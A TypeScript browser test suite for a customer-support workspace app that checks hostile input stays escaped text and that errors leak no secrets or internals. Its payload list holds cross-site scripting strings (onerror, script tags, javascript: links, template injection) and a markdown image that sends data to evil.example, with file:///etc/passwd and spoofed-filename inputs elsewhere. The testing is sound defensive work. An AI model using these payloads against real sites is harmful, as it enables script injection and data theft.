import { strict as assert } from 'node:assert';
import { ok } from '../../src/contracts/result.js';
import { openPage } from '../support/browser.js';
import { eventually } from '../support/eventually.js';
import { recordingNotifier } from '../support/recording-notifier.js';
import { operator, useHosts } from '../support/started-host.js';
import { textOf, useWorkspaces } from './served-workspace.js';

/** What people and models send to make a page do something. Each would raise a dialog, ask elsewhere, or be refused aloud. */
const hostile = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '![x](https://evil.example/?d=secret)',
  '[click](javascript:alert(1)) javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<iframe src="https://evil.example"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
];
const all = hostile.join(' ');

describe('hostile text in the workspace', () => {
  const { startHost } = useHosts();
  const serve = useWorkspaces();

  it('stays text in every place that shows it (subject, names, messages, drafts, facts, errors, tags, operators)', async () => {
    const { notifier } = recordingNotifier(({ message }) => {
      if (message) throw new Error(all);
      return undefined;
    });
    const host = await startHost({
      notifier,
      worker: { maxAttempts: 1 },
      contextProvider: { getContext: () => ok({ [all]: { [all]: all, list: hostile }, Links: hostile }) },
      automationPolicy: { decide: ({ type }) => (type === 'clarification' ? 'draft_only' : 'require_approval') },
      slaPolicyProvider: {
        getActivePolicies: () => ok([{ priority: all, responseMinutes: 1, breachMinutes: 2 }]),
        setPolicy: () => ({ ok: false, error: all }),
      },
    });
    const { cairnloop, database } = host;
    const named = { id: all.slice(0, 400), name: all.slice(0, 400) };
    const workspace = await serve(host, { title: all, operator: () => named });
    const { id } = await cairnloop.conversations.open({
      actorId: all,
      subject: all.slice(0, 900),
      priority: all.slice(0, 450),
      tags: hostile,
      message: all,
      metadata: { customerName: all.slice(0, 190) },
    });
    await cairnloop.conversations.reply(id, { content: all, actor: named });
    await cairnloop.conversations.note(id, { content: all, actor: named });
    const proposal = {
      content: all,
      summary: all,
      evidence: [{ source: all.slice(0, 400), quote: all, url: 'https://evil.example/?d=1' }],
    };
    const draft = await cairnloop.drafts.propose(id, { type: 'reply', ...proposal });
    await cairnloop.drafts.propose(id, { type: 'clarification', ...proposal });
    await cairnloop.outbound.trigger(id, { templateId: all.slice(0, 400), content: all, actor: named });
    await eventually(async () =>
      assert.equal((await cairnloop.deliveries.list({ state: 'discarded' })).items.length, 1),
    );
    await cairnloop.audit.list();
    await database.query(`update cairnloop.slas set status = 'breached', completed_at = now(), ended_by = 'breached'`);

    const { page, context, complaints } = await openPage(workspace.origin);
    const query = encodeURIComponent(all.slice(0, 190));
    const paths = [
      '/',
      '/?select=1',
      `/?q=${query}`,
      `/c/${id}`,
      `/c/${id}?edit=${draft.id}`,
      `/c/${id}?q=${query}`,
      '/audit',
      `/audit?action=${query}&actor=${query}`,
      '/deliveries',
      '/deliveries?state=discarded',
      `/deliveries?state=${query}`,
      '/sla',
      `/bulk?id=${id}&id=${query}`,
      `/nowhere/${query}`,
    ];
    for (const path of paths) {
      await page.goto(workspace.url(path));
      await page.locator('html.scripted').waitFor();
      for (const details of await page.locator('details').all())
        await details.evaluate((one: { open?: boolean }) => {
          one.open = true;
        });
      await page.mouse.move(200, 300);
      await page.mouse.move(700, 300);
      const strange = await page.evaluate(
        `[...document.querySelectorAll('main img, main iframe, main script, main link, main meta, [onerror], [onload], [onmouseover], [onfocus], a[href^="javascript"], .draft a[href^="http"], .prepared a[href*="evil"], .context a[href^="javascript"]')].map((one) => one.outerHTML)`,
      );
      assert.deepEqual(strange, [], path);
    }
    await context.close();
    const missing = complaints.filter((complaint) => !complaint.includes('status of 404'));
    assert.deepEqual(missing, []);
  });

  it('stays text in the reason of a failed attempt and of a rejected policy', async () => {
    const { notifier } = recordingNotifier(() => {
      throw new Error(all);
    });
    const host = await startHost({
      notifier,
      slaPolicyProvider: {
        getActivePolicies: () =>
          ok([
            { priority: all.slice(0, 200), responseMinutes: 5, breachMinutes: 2 },
            { priority: 'normal', responseMinutes: all as never, breachMinutes: 2 },
          ]),
        setPolicy: () => ({ ok: false, error: all }),
      },
    });
    const { conversations, outbound } = host.cairnloop;
    await host.stopClock();
    const { id } = await conversations.open({});
    await outbound.trigger(id, { templateId: 'hello', content: 'Hello!' });
    await eventually(async () => assert.ok((await host.deliveries('outbound'))[0]?.lastError, 'not failed yet'));
    const workspace = await serve(host);
    for (const path of [`/c/${id}`, '/deliveries', '/sla']) {
      const { status, text } = await workspace.get(path);
      assert.equal(status, 200, path);
      assert.ok(text.includes('&lt;img src=x onerror=alert(1)&gt;'), `${path} does not show it`);
      for (const markup of hostile.filter((one) => one.startsWith('<')))
        assert.ok(!text.includes(markup), `${path} holds ${markup}`);
    }
  });

  it('does not link evidence that a browser could run as a script, also if it was stored by other means', async () => {
    const host = await startHost({}, { worker: false });
    const workspace = await serve(host);
    const { id } = await host.cairnloop.conversations.open({ message: 'Hello?' });
    await host.cairnloop.drafts.propose(id, { type: 'reply', content: 'Hello!' });
    const hrefs = [
      'javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      'file:///etc/passwd',
      'https://ok.example/a',
    ];
    const evidence = hrefs.map((url) => ({ source: url, quote: url, url }));
    await host.database.query('UPDATE cairnloop.drafts SET evidence = $1', [JSON.stringify(evidence)]);
    const { text } = await workspace.get(`/c/${id}`);
    for (const href of hrefs.slice(0, 4)) {
      assert.ok(text.includes(href), `${href} is not shown`);
      assert.ok(!text.includes(`href="${href}`), `${href} is linked`);
    }
  });

  it('links web and mail addresses only, without sending a referrer', async () => {
    const host = await startHost({}, { worker: false });
    const workspace = await serve(host);
    const { id } = await host.cairnloop.conversations.open({
      actorId: 'c',
      message:
        'See https://example.com/a?b=1&c="x", http://[::1]/x. Not javascript:alert(1), data:text/html,x or https://u:p@evil.example',
    });
    const { text } = await workspace.get(`/c/${id}`);
    const links = [...text.matchAll(/<a href="(https?:[^"]*)" rel="([^"]*)" target="_blank">/g)].map(
      ([, href, rel]) => [href, rel],
    );
    assert.deepEqual(links, [
      ['https://example.com/a?b=1&amp;c=', 'noreferrer noopener'],
      ['http://[::1]/x', 'noreferrer noopener'],
    ]);
  });

  it('CP11 is capped, paged and kept within its own lines, of any length and content', async () => {
    const facts = {
      Long: { word: 'W'.repeat(4000), [`label${'l'.repeat(300)}`]: `https://example.com/${'p'.repeat(900)}` },
    };
    const host = await startHost({ contextProvider: { getContext: () => ok(facts) } }, { worker: false });
    const workspace = await serve(host);
    const name = `evil\u202Egnp.exe ${'e\u0301'.repeat(20)}${'\u0300'.repeat(150)}`;
    const { id } = await host.cairnloop.conversations.open({
      actorId: name,
      subject: `${'W'.repeat(600)}\u202E`,
    });
    await host.cairnloop.conversations.receive(id, { content: 'x'.repeat(5_000_000) });
    await host.cairnloop.conversations.receive(id, { content: 'ä'.repeat(4000) });
    await host.cairnloop.conversations.receive(id, { content: `a${'\u0301'.repeat(500)}\u202Ebackwards` });
    const page = await workspace.get(`/c/${id}`);
    assert.ok(page.text.length < 120_000, `${page.text.length} characters`);
    assert.match(textOf(page.text), /Show the whole message \(988,000 more characters\)/);
    assert.match(page.text, /<bdi>evil\u202Egnp/);
    const [, message] = /href="\/support(\/c\/[^"]+\/messages\/[^"]+)"/.exec(page.text) ?? [];
    const whole = await workspace.get(message ?? '');
    assert.equal(whole.status, 200);
    assert.ok(whole.text.includes('x'.repeat(1_000_000)));

    const watched = await openPage(workspace.origin, { viewport: { width: 360, height: 740 } });
    for (const path of [`/c/${id}`, '/', '/audit', message ?? '/']) {
      await watched.page.goto(workspace.url(path));
      const wide = await watched.page.evaluate(
        'document.documentElement.scrollWidth - document.documentElement.clientWidth',
      );
      assert.equal(wide, 0, `${path} is wider than the screen`);
    }
    await watched.page.goto(workspace.url(`/c/${id}#rail`));
    await watched.page.getByText('Word').first().waitFor();
    const wider = 'document.getElementById("rail").scrollWidth - document.getElementById("rail").clientWidth';
    assert.equal(await watched.page.evaluate(wider), 0, 'long facts wrap');
    await watched.context.close();
    assert.deepEqual(watched.complaints, []);
  });

  it('never ends in a 500: NUL and lone surrogates in forms and addresses', async () => {
    const host = await startHost({}, { worker: false });
    const workspace = await serve(host);
    const { id } = await host.cairnloop.conversations.open({ actorId: 'c', message: 'Hello' });
    const sent = await workspace.post(`/c/${id}/compose`, { mode: 'reply', content: 'a\u0000b\ud800c' });
    assert.equal(sent.status, 303);
    const [, reply] = (await host.cairnloop.conversations.get(id)).messages ?? [];
    assert.equal(reply?.content, 'ab\ufffdc');
    for (const path of [
      '/?q=%00',
      '/?q=%ff',
      '/?filter=%00',
      '/c/%00',
      '/audit?actor=%00',
      '/audit?conversation=%00',
      '/?cursor=%00',
      '/%e0%80',
    ]) {
      const { status } = await workspace.get(path);
      assert.ok(status < 500, `${path}: ${status}`);
    }
  });

  it('shows no secret from an error on a page or in an audit event', async () => {
    const canary = 'sk-canary-0123456789abcdef';
    const dsn = 'postgres://user:canary-password@db.internal/x';
    const { notifier } = recordingNotifier(() => {
      throw new Error(`${canary} at ${dsn}`);
    });
    const host = await startHost({
      notifier,
      worker: { maxAttempts: 1 },
      contextProvider: {
        getContext: () => {
          throw new Error(`${canary} at ${dsn}`);
        },
      },
    });
    const workspace = await serve(host);
    const { id } = await host.cairnloop.conversations.open({ actorId: 'c', message: 'Hello' });
    await host.cairnloop.outbound.trigger(id, { templateId: 't', content: 'Hi', actor: operator });
    await eventually(async () =>
      assert.equal((await host.cairnloop.deliveries.list({ state: 'discarded' })).items.length, 1),
    );
    for (const path of ['/', `/c/${id}?context=wait`, `/c/${id}/context`, '/audit', '/deliveries?state=discarded']) {
      assert.doesNotMatch((await workspace.get(path)).text, /canary/, path);
    }
    assert.ok(!JSON.stringify(host.log).includes('canary'));
  });

  it('shows no internal cause: no stack, no statement, no connection', async () => {
    const host = await startHost({}, { worker: false });
    const workspace = await serve(host);
    await workspace.get('/');
    await host.database.query('alter table cairnloop.messages rename to messages_gone');
    const { id } = await host.cairnloop.conversations.open({ actorId: 'c' });
    const { status, text } = await workspace.get(`/c/${id}`);
    assert.equal(status, 500);
    assert.match(textOf(text), /This page could not be built/);
    assert.doesNotMatch(text, /messages_gone|relation|SELECT|at .*\.ts|127\.0\.0\.1:/);
    assert.ok(host.log.some((line) => String(line.msg).includes('a workspace page failed')));
  });
});
